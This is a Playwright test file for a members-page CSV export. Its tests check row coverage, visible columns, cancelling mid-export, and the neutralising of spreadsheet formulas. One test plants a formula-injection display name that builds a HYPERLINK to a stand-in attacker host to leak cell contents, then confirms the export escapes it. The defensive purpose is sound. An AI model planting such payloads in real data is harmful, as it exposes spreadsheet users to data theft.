import type { Download, Request } from '@playwright/test';
import { expect, test } from '../support/fixtures';
import { apiMembers, dataTable, headerLabels, rowNames } from '../support/tables';
import { readCsv } from '../support/csv';

/** "Export CSV" on the members page: every row of the filter, the visible columns, defused. */
const MEMBERS = '/spaces/general/members';
/** The export's requests: pages of 100 (the table itself asks for 20 at a time). */
const EXPORT_PAGE = /\/spaces\/general\/members\?.*per_page=100/;

function exportPageOf(request: Request): number {
  return Number(new URL(request.url()).searchParams.get('page'));
}

test.describe('space members export', () => {
  test('exports every row of the filter as CSV with the visible columns', async ({
    adminPage: page,
    adminApi,
  }) => {
    await page.goto(MEMBERS);
    await page.getByText('Columns', { exact: true }).click();
    await page.getByRole('checkbox', { name: 'Points' }).uncheck();
    await expect(dataTable(page).getByRole('columnheader', { name: 'Points' })).toHaveCount(0);
    const visible = await headerLabels(page);

    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export CSV' }).click();
    const download = await downloading;
    expect(download.suggestedFilename()).toMatch(/^members-general-active-\d{4}-\d{2}-\d{2}\.csv$/);
    const { raw, records } = await readCsv(download);
    expect(raw.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = records;
    expect(header!.map((label) => label.toLowerCase())).toEqual(visible);

    const all = await apiMembers(adminApi, 'general', { per_page: 100 });
    expect(rows).toHaveLength(all.members.total);
    await expect(page.getByRole('status').filter({ hasText: 'Exported' })).toContainText(
      `Exported ${all.members.total} members`,
    );
    // Every text cell that a spreadsheet would run as a formula is defused with a quote.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const names = new Set(rows.map((row) => row[0]));
    for (const member of all.members.data) {
      const name = member.xprofile?.display_name ?? '';
      expect(names.has(/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)).toBe(true);
    }
  });

  test('defuses a formula-looking cell in the export', async ({ adminPage: page }) => {
    // Hostile data from a site: a display name that a spreadsheet would run as a formula.
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    await page.route('**/fluent-community/v2/spaces/design-club/members?*', async (route) => {
      const response = await route.fetch();
      const body = (await response.json()) as Awaited<ReturnType<typeof apiMembers>>;
      const first = body.members.data[0];
      if (first?.xprofile) first.xprofile.display_name = formula;
      await route.fulfill({ response, json: body });
    });
    await page.goto('/spaces/design-club/members');
    await expect(rowNames(page).first()).toHaveText(formula);
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export CSV' }).click();
    const { raw, records } = await readCsv(await downloading);
    expect(records[1]![0]).toBe(`'${formula}`);
    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
  });

  test('cancelling stops the walk: the page in flight is aborted and nothing is downloaded', async ({
    adminPage: page,
    adminApi,
  }) => {
    const { members } = await apiMembers(adminApi, 'general', { per_page: 100 });
    expect(members.last_page, 'the export must walk more than one page').toBeGreaterThan(1);
    await page.goto(MEMBERS);
    await expect(rowNames(page)).toHaveCount(20);

    // Every export page requested, in order. Pages after the first are held until the test
    // lets them go, so the walk is mid-way, with page 2 in flight, when Cancel is pressed.
    const requested: number[] = [];
    let pageTwoInFlight: Request | null = null;
    let releaseHeldPages = () => {};
    const held = new Promise<void>((resolve) => (releaseHeldPages = resolve));
    await page.route(EXPORT_PAGE, async (route) => {
      const pageNumber = exportPageOf(route.request());
      requested.push(pageNumber);
      if (pageNumber === 2) pageTwoInFlight ??= route.request();
      if (pageNumber > 1) await held;
      // A request the page aborted meanwhile can no longer be continued.
      await route.continue().catch(() => undefined);
    });
    const downloads: Download[] = [];
    page.on('download', (download) => downloads.push(download));

    await page.getByRole('button', { name: 'Export CSV' }).click();
    const progress = page.getByRole('status').filter({ has: page.getByRole('progressbar') });
    await expect(progress.getByRole('progressbar', { name: 'Export progress' })).toBeVisible();
    await expect(progress).toContainText(`Page 1 of ${members.last_page}`);
    await expect.poll(() => [...requested]).toEqual([1, 2]);

    // How the request in flight ends: aborted by Cancel, or answered once the test lets it go.
    const isPageTwo = (request: Request) => request === pageTwoInFlight;
    const pageTwoOutcome = Promise.race([
      page
        .waitForEvent('requestfailed', isPageTwo)
        .then((request) => request.failure()?.errorText ?? 'failed'),
      page.waitForEvent('requestfinished', isPageTwo).then(() => 'answered'),
    ]);
    await progress.getByRole('button', { name: 'Cancel export' }).click();
    await expect(page.getByText('Export cancelled: nothing was downloaded.')).toBeVisible();

    // Let the held pages go at full speed. A walk that went on would now get page 2, fetch the
    // remaining pages and download its file.
    releaseHeldPages();
    expect(await pageTwoOutcome).toBe('net::ERR_ABORTED');

    // A complete export started now takes at least as long as what remained of the cancelled
    // one, so once its file arrives, the cancelled walk has had all the time it needed.
    const witness = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export CSV' }).click();
    const { records } = await readCsv(await witness);
    expect(records).toHaveLength(members.total + 1);

    // One download (the witness), and no page fetched for the cancelled walk after Cancel.
    expect(downloads).toHaveLength(1);
    const everyPage = Array.from({ length: members.last_page }, (_, index) => index + 1);
    expect(requested).toEqual([1, 2, ...everyPage]);
  });
});
